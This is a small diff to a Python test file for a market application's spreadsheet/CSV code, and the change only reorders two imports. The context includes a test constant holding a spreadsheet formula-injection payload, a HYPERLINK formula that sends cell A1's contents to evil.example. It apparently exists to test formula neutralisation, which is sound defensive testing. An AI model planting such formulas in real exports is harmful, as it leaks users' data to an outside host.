@@ -9,8 +9,8 @@ import pytest
 from fastapi.testclient import TestClient
 
 from market.common.spreadsheet import csv_document, neutralise_formula
-from tests.support.journey import Cast, contract_terms, ok, won_deal
 from tests.support.factories import Market
+from tests.support.journey import Cast, contract_terms, ok, won_deal
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'
 
